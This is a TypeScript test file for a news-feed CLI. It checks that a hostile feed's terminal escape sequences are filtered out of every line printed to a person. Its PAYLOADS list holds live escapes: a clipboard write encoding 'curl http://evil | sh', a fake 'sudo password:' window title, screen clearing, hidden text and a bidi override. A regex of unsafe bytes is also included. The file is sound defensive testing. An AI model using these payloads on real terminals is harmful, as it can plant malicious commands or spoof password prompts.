/**
 * Terminal escapes: a feed title carrying ESC/OSC sequences (window title, clear screen, an OSC 52
 * clipboard write), C1 controls or bidi overrides reached the operator's terminal through
 * `briefing match` — the command run on a URL nobody trusts yet. Every line written for a person
 * (match, console briefings of poll --once, query, text logs and error messages) now passes one
 * filter at the output boundary (src/terminal-safe.ts). The real CLI, a feed from the local server.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFeedServer, type FeedServer } from '../support/feed-server';
import { exitWithin, runCli } from '../support/reliability/child-cli';

/** What a hostile publisher puts in a title: each would act on a terminal that received it. */
const PAYLOADS = [
  '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\x07', // OSC 52: write to the clipboard
  '\x1b]0;sudo password:\x1b\\', // OSC 0: set the window title
  '\x1b[2J\x1b[H', // CSI: clear the screen, cursor home
  '\x9b8m', // C1 CSI: conceal what follows
  '\u202e', // right-to-left override
];
/** Bytes that must not reach a terminal: ESC, C1 controls, bidi controls, BEL. */
const UNSAFE = /[\x07\x1b\x80-\x9f\u202a-\u202e\u2066-\u2069]/;

/** The feed spells the controls as XML character references, which every parser decodes. */
const asXml = (text: string) =>
  text.replace(/[\x00-\x1f\x7f-\x9f\u202a-\u202e]/g, (c) => `&#${c.charCodeAt(0)};`);

const title = `Water talks${PAYLOADS.join('')} resume in Bishkek`;
const feed = (titles: string[]) => `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Hostile${asXml(PAYLOADS[1]!)}</title><link>https://example.org/</link>
${titles
  .map(
    (t, i) =>
      `<item><title>${asXml(t)}</title><link>https://example.org/${i}</link><guid>g-${i}</guid>` +
      `<description>${asXml(`Officials said${PAYLOADS[0]} the talks went well.`)}</description>` +
      `<pubDate>${new Date(Date.UTC(2026, 11, 1, 12, i)).toUTCString()}</pubDate></item>`,
  )
  .join('\n')}
</channel></rss>`;

let server: FeedServer;
let dir: string;
let env: Record<string, string>;
beforeAll(async () => {
  server = await startFeedServer({ '/feed.xml': { body: feed([title]) } });
  dir = await mkdtemp(join(tmpdir(), 'briefing-escapes-'));
  env = { STORE_URL: `sqlite://${join(dir, 'store.sqlite')}`, ARCHIVE_DAYS: '3650' };
  await writeFile(join(dir, 'topics.yaml'), 'topics: []\n');
  await writeFile(
    join(dir, 'feeds.yaml'),
    `feeds:\n  - id: hostile\n    url: ${server.url('/feed.xml')}\n    backfill: 5\n`,
  );
});
afterAll(async () => {
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

async function run(args: string[]) {
  const cli = runCli([...args, '--config', dir], env, { cwd: dir });
  return { exit: await exitWithin(cli, 30_000), cli };
}

describe('a feed title full of terminal escapes', () => {
  it('briefing match prints the title without a single control character', async () => {
    const { exit, cli } = await run(['match', server.url('/feed.xml')]);
    expect(exit.code, cli.output()).toBe(0);
    expect(cli.stdout()).toContain('Water talks');
    expect(cli.stdout()).toContain('resume in Bishkek');
    expect(cli.output()).not.toMatch(UNSAFE);
  });

  it('poll --once prints the console briefing without one, and query shows the archived item without one', async () => {
    const poll = await run(['poll', '--once']);
    expect(poll.exit.code, poll.cli.output()).toBe(0);
    expect(poll.cli.stdout()).toContain('resume in Bishkek');
    expect(poll.cli.output()).not.toMatch(UNSAFE);

    const query = await run(['query', '--since', '3650d']);
    expect(query.exit.code, query.cli.output()).toBe(0);
    expect(query.cli.stdout()).toContain('resume in Bishkek');
    expect(query.cli.output()).not.toMatch(UNSAFE);
  });

  it('an error message quoting hostile input is printed without one', async () => {
    const { exit, cli } = await run(['query', '--since', `7d${PAYLOADS[0]}${PAYLOADS[2]}`]);
    expect(exit.code).toBe(2);
    expect(cli.stderr()).toMatch(/--since expects a duration/);
    expect(cli.output()).not.toMatch(UNSAFE);
  });
});
